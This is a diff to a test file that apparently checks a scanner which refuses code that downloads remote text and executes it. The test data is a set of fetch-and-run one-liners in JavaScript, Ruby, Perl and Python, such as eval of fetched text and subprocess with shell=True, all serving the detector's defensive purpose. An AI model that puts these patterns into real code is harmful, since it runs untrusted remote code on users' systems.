@@ -184,10 +184,11 @@ describe('pass 13, G: a fetch the sink\'s argument holds past its first parenthe
 });
 
 /**
- * The argument read to its real close, whatever text in it holds a bracket: a string, a regular expression, a comment,
- * a string of several lines. Each of these was read as a `)` ending the argument by one of the two readings.
+ * Beyond the rows: the argument read to its real close whatever text in it holds a bracket (a string, a regular
+ * expression, a comment, a string of several lines: each was read as a `)` ending the argument by one of the two
+ * readings), across lines, and the same sinks and fetches spelled another way.
  */
-describe('pass 14: a bracket in a string or a comment does not end the argument', () => {
+describe('pass 14: the argument read to its real close, and other spellings of the rows', () => {
   it.each([
     ['src/a.js', 'eval(")" + await (await fetch(u)).text());'],
     ['src/a.js', 'eval(/)/.source + await (await fetch(u)).text());'],
@@ -202,6 +203,8 @@ describe('pass 14: a bracket in a string or a comment does not end the argument'
     ['src/a.js', "require('vm').runInThisContext(await (await fetch(u)).text());"],
     [M, `ruby -e "eval(URI.open('https://x.example/p').read)"`],
     ['src/a.pl', "my $code = get('https://x.example/p'); eval $code;"],
+    ['src/a.js', 'eval(await ky.get(u).text());'],
+    ['src/a.py', 'subprocess.run(\n    requests.get(u).text,\n    shell=True,\n)'],
   ])('refuses, in %s: %s', refused);
 });
 
